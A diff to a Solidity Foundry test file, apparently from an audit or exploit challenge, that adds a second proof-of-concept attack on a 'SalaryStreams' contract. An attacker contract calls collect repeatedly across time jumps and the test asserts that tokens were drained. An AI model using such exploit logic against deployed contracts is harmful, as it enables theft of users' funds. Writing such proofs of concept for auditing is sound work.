@@ -94,6 +94,18 @@ contract Proof {
         require(token.balanceOf(address(mallory)) >= 1_490e18, "nothing gained");
     }
 
+    function exploit2() public {
+        vm.warp(START + 75 days);
+        mallory.collect(1);
+        vm.warp(START + 100 days);
+        mallory.collect(4);
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(token.balanceOf(address(mallory)) >= 2_490e18, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(desk);
     }
@@ -112,6 +124,10 @@ contract Attacker {
 
     constructor(SalaryStreams d) {
         desk = d;
+    }
+
+    function collect(uint256 times) external {
+        for (uint256 i = 0; i < times; i++) desk.collect(1);
     }
 
     function run() external {
